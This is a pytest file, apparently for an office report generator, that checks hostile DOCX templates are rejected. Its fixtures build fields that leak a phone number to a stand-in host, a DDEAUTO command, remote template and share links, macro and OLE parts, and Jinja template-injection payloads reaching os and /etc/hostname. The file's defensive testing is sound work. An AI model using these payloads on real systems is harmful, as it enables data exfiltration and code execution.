"""Attacks by whoever may write into the folder of the office's templates."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import docx
import pytest
from docx.document import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from installer.templates.__main__ import content
from installer.templates.form import BODY, blank
from installer.templates.paragraphs import say
from seatapp.errors import InputFileError
from seatapp.reports.filling import filled
from seatapp.reports.paper import Paper
from seatapp.reports.template_parts import foreign_part
from seatapp.reports.watch import Watch

FOOT = {"number": "A01-261122-E001", "by": "周敏", "at": "2026-11-22 11:45"}
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def made(template: bytes) -> bytes:
    facts = {"said": "INCLUDEPICTURE", "phone": "19900001234"}
    return filled(template, Paper("test", "试件", "test", facts), FOOT, Watch())


def with_words(words: str) -> bytes:
    document = blank()
    say(document, BODY, words)
    return content(document)


def field(*codes: str) -> Callable[[Document], None]:
    """A field whose code is spread over several runs."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{one}</w:instrText></w:r>' for one in codes
    )

    def put(document: Document) -> None:
        begin, end = (
            f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end")
        )
        document.element.body.insert(0, parse_xml(f"<w:p {nsdecls('w')}>{begin}{runs}{end}</w:p>"))

    return put


def nested(document: Document) -> None:
    """A field that gets its name from another one."""
    field(" DATE ")(document)
    inner = document.element.body[0]
    begin = f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="begin"/></w:r>'
    code = f'<w:r {nsdecls("w")}><w:instrText>"http://x.example"</w:instrText></w:r>'
    end = f'<w:r {nsdecls("w")}><w:fldChar w:fldCharType="end"/></w:r>'
    inner.insert(0, parse_xml(begin))
    inner.append(parse_xml(code))
    inner.append(parse_xml(end))


def simple(document: Document) -> None:
    said = f'<w:p {nsdecls("w")}><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'
    document.element.body.insert(0, parse_xml(said))


def old_picture(document: Document) -> None:
    vml = 'xmlns:v="urn:schemas-microsoft-com:vml"'
    said = f'<v:shape {vml}><v:imagedata src="http://x/?{{{{ phone }}}}"/></v:shape>'
    run = f"<w:p {nsdecls('w')}><w:r><w:pict>{said}</w:pict></w:r></w:p>"
    document.element.body.insert(0, parse_xml(run))


def related(kind: str, target: str) -> Callable[[Document], None]:
    def put(document: Document) -> None:
        document.part.relate_to(target, f"{OFFICE}/{kind}", is_external=True)

    return put


def mail_merge(document: Document) -> None:
    document.settings.element.append(parse_xml(f"<w:mailMerge {nsdecls('w')}/>"))


HOSTILE = {
    "a picture of elsewhere, by a field": field(' INCLUDEPICTURE "http://x/?{{ phone }}" '),
    "the name of the field in pieces": field(" INCLUDE", "PICTURE http://x/?{{ phone }}"),
    "the name of the field from a fact": field(" {{ said }} http://x/?{{ phone }}"),
    "the name of the field from a field": nested,
    "another program": simple,
    "a link that a field hides": field(r' HYPERLINK \l "a" "http://x/?{{ phone }}" '),
    "a picture of elsewhere, as long ago": old_picture,
    "a template of elsewhere": related("attachedTemplate", r"\\x.example\t.dotm"),
    "a picture of elsewhere": related("image", "http://x.example/1.png"),
    "a link to a share": related("hyperlink", r"file://x.example/share"),
    "a source of letters": mail_merge,
}


@pytest.mark.parametrize("spoil", HOSTILE.values(), ids=HOSTILE.keys())
def test_no_paper_is_made_that_reaches_outside_itself(spoil: Callable[[Document], None]) -> None:
    document = blank()
    spoil(document)
    with pytest.raises(InputFileError) as refused:
        made(content(document))
    assert refused.value.code == "template_reaches_out"


@pytest.mark.parametrize("kind", ["vbaProject", "oleObject", "aFChunk"])
def test_no_paper_is_made_that_holds_what_runs(kind: str) -> None:
    document = blank()
    document.part.relate_to(document.part, f"{OFFICE}/{kind}")
    assert foreign_part(document.part.package) == kind


def test_what_the_office_needs_is_let_through() -> None:
    document = blank()
    field(" PAGE ")(document)
    field(r' HYPERLINK \l "_Toc1" ')(document)
    document.part.relate_to("https://x.example/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    assert made(content(document))


WORDS = [
    "{{ ''.__class__.__mro__ }}",
    "{{ said.__init__.__globals__ }}",
    "{{ self._TemplateReference__context.environment }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{% for i in range(999999999) %}x{% endfor %}",
    "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    "{% include '/etc/hostname' %}",
    "{{ '%s' % said.__class__ }}",
    "{{ '{0.__class__.__mro__}'.format(said) }}",
]


@pytest.mark.parametrize("words", WORDS)
def test_no_words_of_a_template_reach_the_computer(words: str) -> None:
    with pytest.raises(InputFileError) as refused:
        made(with_words(words))
    assert refused.value.code == "template_field"


def test_a_template_that_unpacks_to_too_much_or_is_cut_is_refused() -> None:
    good = with_words("好")
    large = io.BytesIO(good)
    with zipfile.ZipFile(large, "a", zipfile.ZIP_DEFLATED) as box:
        box.writestr("word/media/x.png", bytes(101_000_000))
    with zipfile.ZipFile(io.BytesIO(good)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    cut = io.BytesIO()
    with zipfile.ZipFile(cut, "w") as box:
        for name, raw in parts.items():
            box.writestr(name, raw[:-20] if name == "word/document.xml" else raw)
    for bad in (large, cut):
        with pytest.raises(InputFileError) as refused:
            made(bad.getvalue())
        assert refused.value.code == "template_file"


FORMER = "赵前任"
CORE = f"""<cp:coreProperties
 xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{FORMER}</dc:creator>
 <dc:description>{FORMER}</dc:description><cp:keywords>{FORMER}</cp:keywords>
 <cp:lastModifiedBy>{FORMER}</cp:lastModifiedBy><cp:revision>57</cp:revision>
 <cp:category>{FORMER}</cp:category></cp:coreProperties>"""
APP = f"""<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">
 <Company>{FORMER}</Company><Manager>{FORMER}</Manager><TotalTime>900</TotalTime></Properties>"""


def once_a_letter() -> bytes:
    """A template that still says what it was made of."""
    with zipfile.ZipFile(io.BytesIO(with_words("好"))) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    assert "docProps/thumbnail.jpeg" in parts
    parts |= {"docProps/core.xml": CORE.encode(), "docProps/app.xml": APP.encode()}
    parts["docProps/thumbnail.jpeg"] = FORMER.encode()
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as box:
        for name, raw in parts.items():
            box.writestr(name, raw)
    return packed.getvalue()


def test_no_paper_tells_of_the_letter_that_its_template_was() -> None:
    paper = made(once_a_letter())
    with zipfile.ZipFile(io.BytesIO(paper)) as packed:
        parts = {name: packed.read(name).decode("utf-8", "replace") for name in packed.namelist()}
    assert [name for name, text in parts.items() if FORMER in text] == []
    assert "docProps/thumbnail.jpeg" not in parts
    properties = docx.Document(io.BytesIO(paper)).core_properties
    assert (properties.author, properties.last_modified_by) == (FOOT["by"], FOOT["by"])
    assert (properties.title, properties.subject) == ("试件", FOOT["number"])
    assert properties.revision == 1
    assert properties.created == properties.modified is not None


STANDING = (
    '<w:ins w:id="1" w:author="甲"><w:r><w:t>新</w:t></w:r></w:ins>',
    '<w:del w:id="1" w:author="甲"><w:r><w:delText>13800001234</w:delText></w:r></w:del>',
    '<w:r><w:rPr><w:b/><w:rPrChange w:id="1" w:author="甲"/></w:rPr><w:t>粗</w:t></w:r>',
    '<w:r><w:commentReference w:id="0"/></w:r>',
)


@pytest.mark.parametrize("remark", STANDING)
def test_no_paper_is_made_with_what_was_said_about_its_template(remark: str) -> None:
    document = blank()
    document.element.body.insert(0, parse_xml(f"<w:p {nsdecls('w')}>{remark}</w:p>"))
    with pytest.raises(InputFileError) as refused:
        made(content(document))
    assert refused.value.code == "template_has_remarks"
